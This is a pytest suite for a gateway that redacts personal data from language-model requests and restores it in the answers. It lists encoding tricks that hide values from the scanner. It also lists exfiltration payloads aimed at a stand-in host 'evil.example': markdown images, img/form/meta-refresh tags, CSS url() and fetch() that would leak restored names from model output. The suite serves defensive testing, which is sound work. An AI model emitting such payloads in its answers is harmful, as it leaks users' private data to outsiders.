"""Ways past the scanner and the restorer that were found by attack, each as a test that says so by its name."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import pytest

from gateway.crypto.keyring import KeyRing
from gateway.errors import ContentRefused
from gateway.model import CustomRecognizer, PrivacyPolicy
from gateway.redaction import Known, Redactor, find_originals, leaves, replace_leaves, restore, unscannable
from gateway.redaction.detect import Detector
from gateway.redaction.occurrences import needle

STAFF = CustomRecognizer("staff", "EMPLOYEE_ID", patterns=((r"\bEMP-\d{5}\b", 0.9),))
POLICY = PrivacyPolicy(recognizers=(STAFF,))
DETECTOR = Detector(POLICY)
MAIL = "jane.roe@example.com"
JANE = "[PERSON_00000000000a]"
VALUES = {JANE: "Jane Roe"}


@pytest.fixture
def redactor(ring: KeyRing) -> Iterator[Redactor]:
    made = Redactor(ring, timeout_s=30)
    yield made
    made.close()


async def sent(redactor: Redactor, body: dict[str, Any]) -> dict[str, Any]:
    found = leaves(body)
    done = await redactor.redact([leaf.text for leaf in found], POLICY, "default")
    new = replace_leaves(body, found, [one.redacted.text for one in done])
    originals = {token: original for one in done for token, original in one.originals.items()}
    assert find_originals(json.dumps(new).encode(), originals) == []
    return new


# ---------------------------------------------------------------- 1: what the scanner passed over


@pytest.mark.parametrize("number", [4111111111111111, 4111111111111111.0, -4111111111111111])
@pytest.mark.parametrize("place", ["customer", "metadata", "nested", "enum", "created"])
async def test_numbers_outside_strings_are_scanned(redactor: Redactor, number: float, place: str) -> None:
    bodies: dict[str, dict[str, Any]] = {
        "customer": {"customer": number},
        "metadata": {"metadata": {"x": number}},
        "nested": {"extra": {"list": [1, [number]]}},
        "enum": {"tools": [{"type": "function", "function": {"parameters": {"enum": [number]}}}]},
        "created": {"metadata": {"created": number, "seed": number}},
    }
    new = json.dumps(await sent(redactor, bodies[place]))
    assert "CREDIT_CARD" in new
    assert "4111" not in new


@pytest.mark.parametrize(
    "body",
    [
        {"seed": 4111111111111111},
        {"max_tokens": 4111111111111111.0},
        {"tools": [{"type": "function", "function": {"parameters": {"minimum": 4111111111111111}}}]},
    ],
)
async def test_a_limit_that_is_a_personal_number_is_refused(redactor: Redactor, body: dict[str, Any]) -> None:
    with pytest.raises(ContentRefused) as caught:
        await sent(redactor, body)
    assert "4111" not in str(caught.value)


async def test_limits_that_programs_write_by_habit_stay(redactor: Redactor) -> None:
    schema = {"type": "integer", "minimum": 0, "maximum": 2147483647}
    body = {"seed": 42, "tools": [{"type": "function", "function": {"parameters": schema}}], "temperature": 0.7}
    assert await sent(redactor, body) == body


@pytest.mark.parametrize("value", ["EMP-12345", "AB123456C", "00:1A:2B:3C:4D:5E", MAIL])
@pytest.mark.parametrize(
    "body",
    [
        {"metadata": {"id": "X"}},
        {"status": "X"},
        {"metadata": {"X": "x"}},
        {"messages": [{"role": "tool", "tool_call_id": "X", "content": "x"}]},
        {"messages": [{"role": "X", "content": "x"}]},
        {"messages": [{"role": "user", "model": "X", "content": "x", "type": "X"}]},
        {"tools": [{"type": "function", "function": {"parameters": {"id": "X", "format": "X", "$ref": "X"}}}]},
        {"extra": {"role": "X", "type": "X", "detail": "X", "object": "X", "media_type": "X"}},
        {"messages/0/role": "X", "response_format": "X", "tool_choice": "X", "service_tier": "X"},
    ],
)
async def test_structural_looking_fields_and_keys_are_scanned(
    redactor: Redactor, body: dict[str, Any], value: str
) -> None:
    new = json.dumps(await sent(redactor, json.loads(json.dumps(body).replace("X", value))))
    assert value not in new


@pytest.mark.parametrize(
    "body",
    [
        {"prediction": {"content": [{"type": "file", "file": {"file_data": f"Mr Jane Roe {MAIL}"}}]}},
        {"extra": {"type": "file", "data": MAIL}},
        {"tools": [{"type": "file", "file": {"file_data": MAIL}}]},
        {"response_format": {"json_schema": {"schema": {"type": "image", "default": f"data:,{MAIL}"}}}},
        {"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_data": MAIL}}]}]},
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": f"data:,{MAIL}"}}]}]},
    ],
)
async def test_data_of_opaque_looking_parts_is_scanned(redactor: Redactor, body: dict[str, Any]) -> None:
    new = json.dumps(await sent(redactor, body))
    assert "example.com" not in new
    assert "Jane" not in new


@pytest.mark.parametrize(
    "texts",
    [["jane.roe@", "example.com"], ["x EMP-12345", "jane.", "roe@", "example.com EMP-12345", "is mine"]],
)
async def test_a_value_split_over_the_parts_of_one_message_is_found(redactor: Redactor, texts: list[str]) -> None:
    parts: list[dict[str, Any]] = [{"type": "text", "text": text} for text in texts]
    parts.insert(1, {"type": "image_url", "image_url": {"url": "https://a.example/i.png"}})
    new = await sent(redactor, {"messages": [{"role": "user", "content": parts}]})
    left = "".join(part.get("text", "") for part in new["messages"][0]["content"])
    assert not any(word in left for word in ("roe", "jane", "example", "12345", "\u2063"))
    assert left.count("[EMAIL_ADDRESS_") == 1
    assert len(new["messages"][0]["content"]) < len(parts)


async def test_parts_that_share_no_value_stay_as_they_are(redactor: Redactor) -> None:
    parts = [{"type": "text", "text": "a"}, {"type": "text", "text": "EMP-12345"}, {"type": "text", "text": ""}]
    new = await sent(redactor, {"messages": [{"role": "user", "content": parts}]})
    assert [p["text"][:12] for p in new["messages"][0]["content"]] == ["a", "[EMPLOYEE_ID", ""]


@pytest.mark.parametrize(
    "written",
    [
        r"jane\u002eroe\u0040example.com",
        r"jane\x2eroe\u{40}example.com",
        "jane.roe&#64;example.com",
        "jane&#x2e;roe&commat;example&period;com",
        "jane.roe%40example.com",
        "jane%252Eroe%2540example.com",
        "".join(chr(0xE0000 + ord(c)) for c in MAIL),
    ],
)
async def test_encoded_values_are_found_and_share_the_plain_ones_token(redactor: Redactor, written: str) -> None:
    plain, hidden = await redactor.redact([f"a {MAIL} b", f"a {written} b"], POLICY, "default", linked=False)
    assert hidden.redacted.text == plain.redacted.text
    assert [original.value for original in plain.originals.values()] == [MAIL]


async def test_tag_characters_inside_a_value_do_not_hide_it(redactor: Redactor) -> None:
    (done,) = await redactor.redact(["a jane.\U000e0041roe@example.com b"], POLICY, "default")
    assert "roe" not in done.redacted.text


@pytest.mark.parametrize("zero", ["\u0660", "\u0966", "\uff10", "\U0001d7ce"])
def test_digits_of_other_scripts_are_digits(zero: str) -> None:
    card = "".join(chr(ord(zero) + int(digit)) for digit in "4111111111111111")
    assert [span.type for span in DETECTOR.find(f"card {card} x")] == ["CREDIT_CARD"]


async def test_a_name_found_plainly_is_replaced_where_it_stands_encoded(redactor: Redactor) -> None:
    done = await redactor.redact(["Dr Jane Roe", "with Jane&#32;Roe there"], POLICY, "default")
    assert "Jane" not in done[1].redacted.text


async def test_a_property_named_by_personal_data_stays_required(redactor: Redactor) -> None:
    keys = ["EMP-12345", "emp", "Dr Jane Roe", "Dr JANE ROE"]
    schema = {"type": "object", "required": keys, "properties": {key: {"type": "string"} for key in keys}}
    body = {"tools": [{"type": "function", "function": {"name": "f", "parameters": schema}}]}
    new = (await sent(redactor, body))["tools"][0]["function"]["parameters"]
    assert list(new["properties"]) == new["required"]
    assert len(set(new["required"])) == 4


# ---------------------------------------------------------------- 2: what no scanner reads


@pytest.mark.parametrize(
    ("body", "kinds"),
    [
        ({"messages": [{"content": [{"image_url": {"url": "https://a.example/i"}}]}]}, {"image"}),
        ({"messages": [{"content": [{"type": "Image_url", "x": 1}]}]}, {"image"}),
        ({"messages": [{"content": [{"type": "text", "text": "x", "image_url": {"url": "x"}}]}]}, {"image"}),
        ({"images": ["AAAA"]}, {"image"}),
        ({"audio": {"data": "AAAA"}}, {"audio"}),
        ({"prediction": {"content": [{"type": "image_url", "image_url": {"url": "x"}}]}}, {"image"}),
        ({"messages": [{"content": [{"type": "hologram", "x": "y"}]}]}, {"file"}),
        ({"messages": [{"content": "see ![x](data:image/png;base64,AAAA)"}]}, {"image"}),
        ({"metadata": {"x": "data:application/pdf;base64,AAAA"}}, {"file"}),
        ({"extra": ["data:;base64,AAAA"]}, {"file"}),
        ({"messages": [{"content": [{"type": "text", "text": "x"}, {"text": "y"}]}]}, set()),
        ({"messages": [{"content": "data:text/plain,hello"}]}, set()),
        ({"tools": [{"function": {"parameters": {"properties": {"file": {"type": "string"}}}}}]}, set()),
    ],
)
def test_unscannable_parts_are_told_by_key_type_and_data_url(body: dict[str, Any], kinds: set[str]) -> None:
    assert unscannable(body) == kinds


# ---------------------------------------------------------------- 3: values carried off in answers


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/" + "a" * 2100 + "/TOKEN)",
        "![x](<https://evil.example/a) TOKEN>)",
        r'<img alt=">" src="https:\\evil.exampleTOKEN">',
        "![x](/proxy?u=(x)TOKEN)",
        r"![x](/a\)TOKEN)",
        '<img alt=">" src="https://evil.example/ TOKEN">',
        "[a]: <https://evil.example/a TOKEN>",
        "[a]:\n/x/TOKEN",
        "[a\nb]: /x/TOKEN",
        "<https:evil.example/TOKEN>",
        r"https:\\evil.example\TOKEN",
        "http&#58;//evil/TOKEN",
        "TOKEN.evil.example",
        "TOKEN-x.evil.example",
        "evil.example/?q=TOKEN",
        "![TOKEN](https://evil/)",
        "![a [b] TOKEN](https://evil/)",
        "url(https://evil/ TOKEN)",
        'url("https://evil/) TOKEN")',
        "<a alt='>' href='https://evil/ TOKEN'>",
        '<!--> <img src="https://evil/ TOKEN">',
        'fetch("https://evil/ TOKEN")',
        "https://evil.example/" + "a" * 5000 + "TOKEN",
    ],
)
def test_no_value_is_carried_off(text: str) -> None:
    text = text.replace("TOKEN", JANE)
    assert "Jane" not in restore(text, VALUES)
    restorer = Known(VALUES).restorer()
    assert "Jane" not in "".join(restorer.feed(character) for character in text) + restorer.flush()


@pytest.mark.parametrize(
    "text",
    [
        "Call TOKEN (HR).",
        "(TOKEN)",
        "TOKEN, TOKEN",
        "**TOKEN** and _TOKEN_",
        "| TOKEN | TOKEN |\n|---|---|\n",
        "- TOKEN\n* TOKEN\n1. TOKEN",
        "see https://a.example/x and TOKEN",
        "[link](https://a.example) TOKEN",
        "![a](b.png)\nTOKEN",
        "[TOKEN](https://a.example)",
        "Jane <TOKEN>",
        "By TOKEN.[1] Next",
        "a < b TOKEN",
        "<b>TOKEN</b> <img src='x' alt=\"y\"> TOKEN",
        "Dear TOKEN:\nTOKEN's",
        "TOKEN/TOKEN",
        '"TOKEN" `TOKEN`',
        "> TOKEN\n\nTOKEN",
        "[1] TOKEN",
    ],
)
def test_ordinary_text_is_restored(text: str) -> None:
    assert restore(text.replace("TOKEN", JANE), VALUES) == text.replace("TOKEN", "Jane Roe")


def test_in_json_each_string_is_a_text_of_its_own() -> None:
    source = json.dumps({"url": "https://a.example/", "to": JANE, "html": f'<a href="https://evil/ {JANE}">'})
    shown = json.loads(restore(source, VALUES, json=True))
    assert shown == {"url": "https://a.example/", "to": "Jane Roe", "html": '<a href="https://evil/ [PERSON]">'}


# ---------------------------------------------------------------- 4: slow texts


@pytest.mark.parametrize("unit", ["1 ", "1-", "12 ", "123 ", "12345 ", "1/", "(1) "])
def test_a_long_table_of_digits_costs_little_and_hides_nothing(unit: str) -> None:
    rows = unit * (60_000 // len(unit))
    text = f"{rows}+44 20 7946 0327 {rows}4111 1111 1111 1111 {rows[:100]}"
    began = time.process_time()
    found = {(span.type, text[span.start : span.end]) for span in DETECTOR.find(text)}
    assert time.process_time() - began < 3
    assert any(type_ == "PHONE_NUMBER" and "7946 0327" in value for type_, value in found)
    assert any(type_ == "CREDIT_CARD" and "1111 1111 1111" in value for type_, value in found)


# ---------------------------------------------------------------- 5: many tokens


def test_many_known_tokens_and_many_texts_cost_little() -> None:
    values = {f"[PERSON_{number:012d}]": "Jane Roe" for number in range(8000)}
    began = time.process_time()
    known = Known(values)
    assert [known.restore(f"Hello [PERSON_{n:012d}]!") for n in range(200)] == ["Hello Jane Roe!"] * 200
    assert time.process_time() - began < 1
    began = time.process_time()
    assert all(restore(f"[PERSON_{n:012d}] x", values) == "Jane Roe x" for n in range(200))
    assert time.process_time() - began < 2


def test_many_values_to_look_for_cost_little() -> None:
    began = time.process_time()
    originals = [needle(f"jane{number}@example.com") for number in range(20_000)]
    assert all(one is not None and one.strong for one in originals)
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    "text",
    [
        "[x](<https://evil.example/?q=TOKEN>)",
        "[x](https://evil.example 'TOKEN')",
        "![x][r]\n\n[r]: https://evil.example/TOKEN",
        "<img srcset='a 1x, https://evil.example/TOKEN 2x'>",
        "<form action=https://evil.example/TOKEN>",
        "<video poster=x data-y='TOKEN'>",
        "<svg><use href='https://evil.example#TOKEN'/></svg>",
        "<style>a{background:url(//evil.example/TOKEN)}</style>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/TOKEN">',
        "ftp://evil.example/TOKEN",
        "tel:TOKEN",
        "evil.example/TOKEN",
        "//evil.example/TOKEN",
        "https%3A%2F%2Fevil.example%2FTOKEN",
        "10.0.0.1/TOKEN",
        "localhost:8080/TOKEN",
        "TOKEN@evil.example",
    ],
)
@pytest.mark.parametrize(
    "written",
    [
        "[PERSON_00000000000a]",
        "PERSON_00000000000a",
        "[PERSONNE_00000000000A]",
        "\\[PERSON\\_00000000000a\\]",
        "00000000000a",
    ],
)
def test_no_value_is_carried_off_however_its_token_is_written(text: str, written: str) -> None:
    text = text.replace("TOKEN", written)
    assert "Jane" not in restore(text, VALUES)
    restorer = Known(VALUES).restorer()
    assert "Jane" not in "".join(restorer.feed(character) for character in text) + restorer.flush()


@pytest.mark.parametrize(
    "where", ["typed by the user", "planted in a document", "invented by the model", "of another form"]
)
@pytest.mark.parametrize("json_", [False, True])
def test_a_token_that_did_not_enter_stays_a_token(where: str, json_: bool) -> None:
    stranger = {"invented by the model": "[PERSON_zzzzzzzzzzzz]", "of another form": "[PERSON_00000000000b_k3f9]"}
    text = f'{{"print": "{stranger.get(where, "[PERSON_00000000000b]")} of {JANE}"}}'
    shown = restore(text, VALUES, json=json_)
    assert shown == text.replace(JANE, "Jane Roe")
    restorer = Known(VALUES).restorer(json=json_)
    assert "".join(map(restorer.feed, text)) + restorer.flush() == shown


def test_a_value_that_looks_like_a_token_is_not_read_again() -> None:
    other = "[PERSON_00000000000b]"
    known = {JANE: other, other: "wrong", "[PERSON_00000000000c]": "[PERSON_000000"}
    assert restore(JANE, known) == other
    assert restore("[PERSON_00000000000c]00000b]", known) == "[PERSON_00000000000b]"
